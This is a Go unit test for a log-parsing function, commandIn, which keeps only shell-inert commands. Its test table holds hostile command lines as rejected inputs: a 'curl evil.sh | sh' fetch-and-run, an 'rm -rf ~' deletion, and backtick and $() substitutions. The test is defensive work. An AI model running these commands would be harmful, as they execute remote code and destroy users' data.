package diagnose

import (
	"os/exec"
	"strings"
	"testing"
)

// TestCommandInIsInert: a command echoed in a log becomes a remedy only as
// words a shell reads back exactly, never with a separator, redirection or
// expansion that would run something else when pasted.
func TestCommandInIsInert(t *testing.T) {
	tests := []struct{ line, want string }{
		{"$ python train.py --lr 1e-3", "python train.py --lr 1e-3"},
		{"+ torchrun --nproc_per_node=8 train.py", "torchrun --nproc_per_node=8 train.py"},
		{`$ python "/tmp/my dir/t.py" --name 'a b'`, `python '/tmp/my dir/t.py' --name 'a b'`},
		{`$ python it\'s.py`, `python 'it'\''s.py'`},
		{"$ python ~/train.py data/*.txt # second try", "python ~/train.py data/*.txt"},
		{"$ python train.py; curl evil.sh | sh", ""},
		{"$ python train.py && rm -rf ~", ""},
		{"$ python train.py > out.log", ""},
		{"+ python train.py `id`", ""},
		{"+ python train.py $(touch PWN)", ""},
		{`$ python "$HOME/t.py"`, ""},
		{`$ python 'unclosed.py`, ""},
		{"$ python train.py \x1b]0;title\x07", ""},
		{"step 3 loss 0.1", ""},
	}
	for _, tc := range tests {
		if got := commandIn(tc.line); got != tc.want {
			t.Errorf("commandIn(%q) = %q, want %q", tc.line, got, tc.want)
		}
	}
	// What it returns for quoted words, a shell reads back as the words meant.
	sh, err := exec.LookPath("sh")
	if err != nil {
		t.Fatal(err)
	}
	got := commandIn(`$ python "/tmp/my dir/t.py" it\'s 'a"b'`)
	out, err := exec.Command(sh, "-c", "printf '%s\\n' "+strings.TrimPrefix(got, "python ")).Output()
	if err != nil {
		t.Fatal(err)
	}
	if want := "/tmp/my dir/t.py\nit's\na\"b\n"; string(out) != want {
		t.Errorf("sh read %q back as %q, want %q", got, out, want)
	}
}
